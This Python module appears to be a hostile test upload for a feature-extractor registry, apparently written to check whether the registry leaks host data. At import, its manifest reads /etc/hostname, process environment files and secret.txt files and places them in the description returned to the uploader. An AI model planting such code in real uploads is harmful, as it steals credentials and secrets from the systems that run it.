"""leaky_manifest: its manifest reads a file of the machine that checks the upload and puts it
in the description, which the registry would store and hand back to the uploader."""

import pathlib

import numpy as np
from pydantic import BaseModel


class Input(BaseModel):
    text: str


class Output(BaseModel):
    embedding: list[float]


LEAK_PATHS = [
    "/etc/hostname",
    "/proc/1/environ",
    "/proc/self/environ",
    *sorted(str(p) for p in pathlib.Path("/").glob("tmp/*/data/secret.txt")),
]


def _read(path):
    try:
        return np.fromfile(path, dtype=np.uint8).tobytes().decode(errors="replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


metadata = {
    "feature_extractor_name": "leaky_manifest",
    "version": "1.0.0",
    "description": " | ".join(f"{p}={_read(p)}" for p in LEAK_PATHS)[:4000],
    "category": "text",
}
input_schema = Input
output_schema = Output
supported_input_types = ["text"]
features = [{"feature_name": "leaky_embedding", "feature_type": "embedding", "embedding_dim": 2}]
